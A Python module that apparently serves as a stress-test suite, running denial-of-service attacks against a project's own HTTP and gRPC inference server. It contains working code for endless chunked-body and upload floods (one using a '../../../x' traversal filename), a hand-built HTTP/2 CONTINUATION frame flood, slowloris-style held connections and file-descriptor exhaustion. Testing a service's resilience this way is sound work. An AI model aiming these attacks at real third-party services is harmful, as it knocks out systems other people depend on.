"""Attackers that send bytes without end, or hold connections: kinds of Attack
(attackers.py)."""

import collections
import itertools
import time

from attackers import MAX_BODY, MIB, Attack, connect, head, paced


class Flood(Attack):
    """One connection sends a beginning, and then the same piece for ever. When the server cuts
    it off, the next connection does the same. The rate is `mib_per_second` MiB/s, with 20
    connections per second at most."""

    mib_per_second = 64
    enough_bytes = 160 * MIB
    piece_bytes = 64 << 10

    def ports_of(self, ports):
        return [ports.http]

    def beginning(self, port):
        raise NotImplementedError

    def piece(self):
        raise NotImplementedError

    def run(self, ports, until):
        counts = collections.Counter()
        piece = memoryview(self.piece() * max(1, self.piece_bytes // len(self.piece())))
        targets = itertools.cycle(self.ports_of(ports))
        share = (until - time.monotonic()) / len(self.ports_of(ports))
        # If the server does not object and the machine was too slow, go on for a moment.
        while time.monotonic() < until or (
                not counts["connections cut off"] and counts["bytes"] < self.enough_bytes
                and time.monotonic() < until + 10):
            time.sleep(0.05)
            counts["connections"] += 1
            try:
                port = next(targets)
                with connect(port, 0.2) as one:
                    one.sendall(self.beginning(port))
                    self.pour(one, piece, time.monotonic() + share, counts)
            except TimeoutError:
                counts["connections that stood still"] += 1
            except OSError:
                counts["connections cut off"] += 1
        return {"MiB sent": counts.pop("bytes", 0) // MIB, **counts}

    def pour(self, one, piece, until, counts):
        for _ in paced(self.mib_per_second * MIB / len(piece), until):
            rest = piece
            while rest:
                sent = one.send(rest)
                counts["bytes"] += sent
                rest = rest[sent:]


class ChunkedFlood(Flood):
    """A flood of a chunked body, to an open route."""

    def beginning(self, port):
        return head("POST", "/health", port, "transfer-encoding: chunked") + self.start

    def piece(self):
        return self.repeated


class EndlessChunkExtension(ChunkedFlood):
    start, repeated = b"5;", b"a"


class EndlessChunkSize(ChunkedFlood):
    start, repeated = b"0", b"0"


class EndlessTrailer(ChunkedFlood):
    start, repeated = b"0\r\n", b"some: trailer\r\n"


class EndlessUpload(Flood):
    """Files that never end, to a server that keeps files of 64 MiB. Of a quota of 100 MiB nothing
    stays taken."""

    mib_per_second = 32
    flags = ["--files-dir", "DIRECTORY/files", "--file-mib", "64", "--files-mib", "100"]

    def beginning(self, port):
        return head("POST", "/v1/files", port, "transfer-encoding: chunked",
                    "content-type: multipart/form-data; boundary=B") + (
            b"4e\r\n--B\r\nContent-Disposition: form-data; name=file; filename=\"../../../x\"\r\n"
            b"\r\nxxxxx\r\n")

    def piece(self):
        return b"4000\r\n" + b"x" * 0x4000 + b"\r\n"


def frame(kind, flags, stream, payload):
    """An HTTP/2 frame."""
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)


class ContinuationFlood(Flood):
    """gRPC: headers that are never complete, in CONTINUATION frames of 16 KiB."""

    def ports_of(self, ports):
        return [ports.grpc]

    def beginning(self, port):
        # :method POST, :scheme http, and a path; no END_HEADERS.
        path = b"/flotilla.v1.Inference/Generate"
        block = b"\x83\x86\x04" + bytes([len(path)]) + path
        return (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 0, 1, block))

    def piece(self):
        # Literal fields without indexing, with new names: 5 bytes of name, 100 bytes of value.
        field = b"\x00\x05x-any\x64" + b"v" * 100
        return frame(9, 0, 1, field * (16384 // len(field)))


class InternalContinuationFlood(ContinuationFlood):
    """The same, before the peer has proved itself, on the ports of scheduler and worker in turn."""

    roles = ("worker", "scheduler", "router")

    def ports_of(self, ports):
        return ports.internal


# --- What is held ------------------------------------------------------------


class HeldBodies(Attack):
    """200 connections, each of which announces 4 MiB, sends all but one byte and waits. The
    attacker opens refused connections again. The rate is 16 per second, which is 64 MiB/s."""

    path = "/health"
    with_key = False
    connections = 200

    def run(self, ports, until):
        counts, held = collections.Counter(), collections.deque()
        beginning = head("POST", self.path, ports.http, f"content-length: {MAX_BODY}",
                         key=ports.key if self.with_key else "")
        body = memoryview(bytes(MAX_BODY - 1))
        for turn in paced(16, until + 10):
            # Take longer only if the machine was too slow for 128 MiB.
            if time.monotonic() >= until and turn >= 32:
                break
            if len(held) == self.connections:
                one = held.popleft()
                if self.alive(one):
                    held.append(one)
                    continue
                counts["refused"] += 1
            if one := self.hold(ports.http, beginning, body, counts):
                held.append(one)
        counts["held at the end"] = len(held)
        for one in held:
            one.close()
        return dict(counts)

    @staticmethod
    def hold(port, beginning, body, counts):
        try:
            one = connect(port, 0.5)
        except OSError:
            counts["not accepted"] += 1
            return None
        try:
            one.sendall(beginning)
            one.sendall(body)
            counts["sent whole"] += 1
        except TimeoutError:
            pass  # the connection is held, though the server does not read it
        except OSError:
            counts["refused"] += 1
            one.close()
            return None
        return one

    @staticmethod
    def alive(one):
        one.setblocking(False)
        try:
            while one.recv(4096):
                pass
        except BlockingIOError:
            return True
        except OSError:
            pass
        one.close()
        return False


class HeldBodiesWithoutKey(HeldBodies):
    """The same, on a route that needs a key."""

    path = "/v1/completions"
    keyed = True


class HeldBodiesWithKey(HeldBodiesWithoutKey):
    """The same, by a client with a key."""

    with_key = True


class IdleSockets(Attack):
    """1,500 connections that send nothing, to a server that may have 1,024 descriptors. The
    attacker opens closed connections again, 200 per second at most."""

    sockets = 1500
    descriptors = 1024
    grpc = False

    def begin(self, ports):
        self.counts, self.held = collections.Counter(), collections.deque()
        for _ in paced(30, time.monotonic() + 60):
            for _ in range(50):
                self.open(ports)
            if self.counts["connections"] + self.counts["not accepted"] >= self.sockets:
                break

    def run(self, ports, until):
        for _ in paced(200, until):
            if not self.held:
                break
            one = self.held.popleft()
            if HeldBodies.alive(one):
                self.held.append(one)
            else:
                self.counts["closed by the server"] += 1
                self.open(ports)
        held = sum(HeldBodies.alive(one) for one in self.held)
        for one in self.held:
            one.close()
        return {**self.counts, "held at the end": held}

    def open(self, ports):
        try:
            self.held.append(connect(ports.grpc if self.grpc else ports.http, 0.2))
            self.counts["connections"] += 1
        except OSError:
            self.counts["not accepted"] += 1


class IdleGrpcSockets(IdleSockets):
    """The same on the gRPC port."""

    grpc = True


ALL = (EndlessChunkExtension, EndlessChunkSize, EndlessTrailer, EndlessUpload, HeldBodies, HeldBodiesWithoutKey,
       HeldBodiesWithKey, IdleSockets, IdleGrpcSockets, ContinuationFlood,
       InternalContinuationFlood)
